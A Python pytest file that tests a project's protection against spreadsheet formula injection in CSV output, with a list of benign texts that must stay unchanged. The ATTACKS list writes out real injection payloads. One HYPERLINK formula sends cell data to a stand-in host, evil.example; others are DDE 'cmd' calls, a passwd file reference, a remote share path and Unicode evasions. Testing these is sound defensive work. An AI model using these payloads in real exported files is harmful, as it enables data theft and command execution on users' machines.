from __future__ import annotations

import csv

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eclip.schema import ENRICHED_SCHEMA
from eclip.spreadsheets import is_formula, original, protected
from eclip.tasks.clustering.clusterfile import CLUSTERS_SCHEMA, read_clusters, write_table
from eclip.tasks.enrich.output import read_answers, write_answers

ATTACKS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n =1+1",
    "\u200b=1+1",
    "＝1+1",
    "－IMPORTXML(A1)",
    "-'file:///etc/passwd'#$passwd.A1",
    "+[other.xls]Sheet!A1",
    "-\\\\evil.example\\share",
    "-20% Shirt (red)",  # no attack, but shaped as a call of a function is: the rule errs on that side
]
TEXTS = [
    "-20% Shirt",
    "+82 10 1234",
    "@home bag, red",
    "- 5 pcs!",
    "-",
    "",
    "'s-Hertogenbosch mug",
    "A=B",
    "007",
    "1-2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_is_text_there(text):
    assert protected(text) == "'" + text
    assert not is_formula(protected(text))


@pytest.mark.parametrize("text", [*TEXTS, None, -0.5, 3, True])
def test_what_does_nothing_stays_to_the_byte(text):
    assert protected(text) is text


@settings(deadline=None)
@given(st.one_of(st.text(st.sampled_from("'=+-@a(|! \t＝"), max_size=6), st.text()))
def test_programs_get_back_what_was_written(text):
    assert original(protected(text)) == text
    assert not is_formula(protected(text))


def test_every_csv_that_is_read_back_is_whole(tmp_path):
    ids = [*ATTACKS[:2], "-20% Shirt", "'=1", "plain"]
    write_table(tmp_path / "c.csv", CLUSTERS_SCHEMA, {"product_id": ids, "cluster_id": ids, "confidence": [0.5] * 5})
    assert read_clusters(tmp_path / "c.csv") == dict(zip(ids, ids, strict=True))
    rows = [{"product_id": each, "category": [each, "Shirts"], "attributes": {"=a": "=b"}} for each in ids]
    table = pa.Table.from_pylist(rows, schema=ENRICHED_SCHEMA)
    write_answers([table], tmp_path / "e.csv")
    assert read_answers(tmp_path / "e.csv").equals(table)
    for file in ("c.csv", "e.csv"):
        with (tmp_path / file).open(encoding="utf-8", newline="") as lines:
            assert [cell for row in csv.reader(lines) for cell in row if is_formula(cell)] == []
